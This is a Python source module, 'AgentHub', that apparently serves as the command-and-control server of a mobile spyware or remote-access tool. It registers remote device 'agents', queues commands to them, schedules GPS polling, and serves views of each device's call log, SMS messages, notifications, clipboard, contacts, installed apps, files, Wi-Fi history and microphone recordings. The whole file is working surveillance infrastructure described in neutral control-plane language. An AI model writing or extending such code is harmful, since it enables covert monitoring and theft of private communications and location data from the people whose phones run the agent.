"""High-level async facade over the agent control plane."""

from __future__ import annotations

import asyncio
import logging
import time
from collections.abc import Awaitable, Callable, Mapping
from datetime import datetime
from typing import Any

from agenthub._constants import DOWNLOAD_TYPE_FILE, DOWNLOAD_TYPE_VOICE, PHONE_SUFFIX_LENGTH
from agenthub.config import HubConfig
from agenthub.dispatch import CommandDispatcher
from agenthub.ingestion import DownloadWriter, TelemetryIngestor
from agenthub.models._base import utcnow
from agenthub.models.agent import Agent, AgentMetadata, AgentPage, HubStats, PollConfig
from agenthub.models.commands import CommandKind, CommandResult
from agenthub.registry import SessionRegistry
from agenthub.scheduler import PollScheduler
from agenthub.state import AgentSession, CoreState, SessionState
from agenthub.store import AgentCollection, AgentData, HubStore
from agenthub.transport import AgentTransport

_logger = logging.getLogger(__name__)


def _sort_value(value: Any) -> tuple[int, Any]:
    # Agents send timestamps as numbers or strings; numbers sort first.
    if isinstance(value, bool) or value is None:
        return (2, "")
    if isinstance(value, (int, float)):
        return (0, value)
    try:
        return (0, float(value))
    except (TypeError, ValueError):
        return (1, str(value))


def _newest_first(items: list[dict[str, Any]], key: str) -> list[dict[str, Any]]:
    return sorted(items, key=lambda item: _sort_value(item.get(key)), reverse=True)


def _suffix(value: Any) -> str:
    return str(value or "")[-PHONE_SUFFIX_LENGTH:]


class AgentHub:
    """Owns the core state and exposes the control-plane operations.

    Usage::

        async with AgentHub(HubConfig.from_env()) as hub:
            await hub.connect(transport, "agent-1", {"clientIP": "10.0.0.2"})
            result = await hub.send_command("agent-1", CommandKind.SMS, {"action": "ls"})

    Parameters
    ----------
    config : HubConfig or None
        Hub configuration; defaults to an in-memory hub.
    clock : callable
        Wall clock used for record timestamps.
    sleep : callable
        Awaitable sleep driving poll timers.
    monotonic : callable
        Monotonic clock used for the reconnect grace window.
    """

    def __init__(
        self,
        config: HubConfig | None = None,
        *,
        clock: Callable[[], datetime] = utcnow,
        sleep: Callable[[float], Awaitable[Any]] = asyncio.sleep,
        monotonic: Callable[[], float] = time.monotonic,
    ) -> None:
        self._config = config or HubConfig()
        self._store = HubStore(self._config.resolved_database_url)
        self._state = CoreState(self._store)
        self._closed = False
        self._dispatcher = CommandDispatcher(self._state, clock=clock)
        self._scheduler = PollScheduler(self._state, self._dispatcher.send_command, sleep=sleep)
        self._ingestor = TelemetryIngestor(
            self._state,
            DownloadWriter(self._config.resolved_downloads_dir, self._config.downloads_url_prefix),
            debug_events=self._config.debug_events,
            clock=clock,
        )
        self._registry = SessionRegistry(
            self._state,
            self._dispatcher,
            self._scheduler,
            self._ingestor,
            reconnect_grace=self._config.reconnect_grace,
            clock=clock,
            monotonic=monotonic,
        )
        stale = self._registry.reset_online_flags()
        if stale:
            _logger.info("Marked %d agents offline left over from a previous run", stale)

    @property
    def config(self) -> HubConfig:
        return self._config

    @property
    def store(self) -> HubStore:
        return self._store

    @property
    def ingestor(self) -> TelemetryIngestor:
        return self._ingestor

    # ------------------------------------------------------------------
    # Context manager lifecycle
    # ------------------------------------------------------------------

    async def __aenter__(self) -> AgentHub:
        return self

    async def __aexit__(self, *exc: Any) -> None:
        await self.close()

    async def close(self) -> None:
        """Cancel every poll timer, drop all sessions, mark agents offline and close the store."""
        if self._closed:
            return
        self._closed = True
        tasks = [s.poll_task for s in self._state.sessions.values() if s.poll_task is not None]
        self._state.teardown()
        if tasks:
            await asyncio.gather(*tasks, return_exceptions=True)
        self._registry.reset_online_flags()
        self._store.close()

    # ------------------------------------------------------------------
    # Sessions
    # ------------------------------------------------------------------

    async def connect(
        self,
        transport: AgentTransport,
        agent_id: str,
        metadata: AgentMetadata | Mapping[str, Any] | None = None,
    ) -> AgentSession:
        """Register a new live connection for *agent_id*."""
        return await self._registry.connect(transport, agent_id, metadata)

    async def disconnect(self, agent_id: str, transport: AgentTransport | None = None) -> bool:
        return await self._registry.disconnect(agent_id, transport)

    def is_online(self, agent_id: str) -> bool:
        return self._registry.is_online(agent_id)

    # ------------------------------------------------------------------
    # Commands
    # ------------------------------------------------------------------

    async def send_command(
        self,
        agent_id: str,
        kind: CommandKind | str,
        payload: Mapping[str, Any] | None = None,
    ) -> CommandResult:
        """Send *kind* to the agent now, or queue it until it reconnects.

        Never raises for rejected commands; inspect ``result.error``.
        """
        return await self._dispatcher.send_command(agent_id, kind, payload)

    async def set_poll_interval(self, agent_id: str, seconds: float) -> PollConfig:
        """Set the location polling interval; ``0`` disables polling.

        Raises
        ------
        InvalidPollIntervalError
            ``seconds`` is negative or nonzero and below 30.
        UnknownAgentError
            No agent record exists for *agent_id*.
        """
        return await self._scheduler.set_interval(agent_id, seconds)

    # ------------------------------------------------------------------
    # Queries
    # ------------------------------------------------------------------

    def get_agent(self, agent_id: str) -> Agent | None:
        return self._store.get_agent(agent_id)

    def list_agents(self) -> list[Agent]:
        return self._registry.list_all()

    def list_agents_online(self) -> list[Agent]:
        return self._registry.list_online()

    def list_agents_offline(self) -> list[Agent]:
        return self._registry.list_offline()

    def get_stats(self) -> HubStats:
        agents = self.list_agents()
        online = sum(1 for agent in agents if agent.is_online)
        return HubStats(
            total_agents=len(agents),
            online_agents=online,
            offline_agents=len(agents) - online,
            active_pollers=self._state.active_pollers(),
        )

    def get_agent_page(self, agent_id: str, page: AgentPage | str, filter: str | None = None) -> Any:
        """Return one dashboard view of an agent's data.

        Returns ``None`` for an unknown agent. ``filter`` narrows the calls
        and sms pages by the last six digits of the number and the
        notifications page by app name; other pages ignore it.

        Raises
        ------
        ValueError
            *page* is not a known page.
        """
        page = AgentPage(page)
        agent = self._store.get_agent(agent_id)
        if agent is None:
            return None
        data = self._store.agent_data(agent_id)

        if page == AgentPage.INFO:
            return agent.to_document()
        if page == AgentPage.CALLS:
            calls = _newest_first(data.log(AgentCollection.CALLS).filter(), "date")
            if filter:
                calls = [c for c in calls if _suffix(c.get("phoneNo")) == _suffix(filter)]
            return calls
        if page == AgentPage.SMS:
            messages = data.log(AgentCollection.SMS).filter()
            if filter:
                messages = [m for m in messages if _suffix(m.get("address")) == _suffix(filter)]
            return messages
        if page == AgentPage.NOTIFICATIONS:
            notifications = _newest_first(data.log(AgentCollection.NOTIFICATIONS).filter(), "postTime")
            if filter:
                notifications = [n for n in notifications if n.get("appName") == filter]
            return notifications
        if page == AgentPage.WIFI:
            return {
                "current": data.snapshot(AgentCollection.WIFI_NOW).value(),
                "log": data.log(AgentCollection.WIFI_LOG).filter(),
            }
        if page == AgentPage.CLIPBOARD:
            return _newest_first(data.log(AgentCollection.CLIPBOARD).filter(), "time")
        if page == AgentPage.DOWNLOADS:
            return data.downloads.filter({"type": DOWNLOAD_TYPE_FILE})
        if page == AgentPage.MICROPHONE:
            return data.downloads.filter({"type": DOWNLOAD_TYPE_VOICE})
        return self._snapshot_page(data, page)

    @staticmethod
    def _snapshot_page(data: AgentData, page: AgentPage) -> Any:
        collection = {
            AgentPage.CONTACTS: AgentCollection.CONTACTS,
            AgentPage.PERMISSIONS: AgentCollection.PERMISSIONS,
            AgentPage.APPS: AgentCollection.APPS,
            AgentPage.FILES: AgentCollection.CURRENT_FOLDER,
            AgentPage.GPS: AgentCollection.GPS,
        }[page]
        return data.collection(collection).value()

    # ------------------------------------------------------------------
    # Removal
    # ------------------------------------------------------------------

    async def delete_agent(self, agent_id: str, *, purge: bool = False) -> bool:
        """Remove the agent record, its session and poll timer.

        Stored history is kept unless *purge* is set. Returns ``False``
        when no record existed.
        """
        async with self._state.lock_for(agent_id):
            session = self._state.sessions.pop(agent_id, None)
            if session is not None:
                session.cancel_poll()
                session.state = SessionState.DISCONNECTED
            removed = self._store.remove_agent(agent_id, purge=purge)
        if removed:
            _logger.info("Deleted agent %s", agent_id)
        return bool(removed)
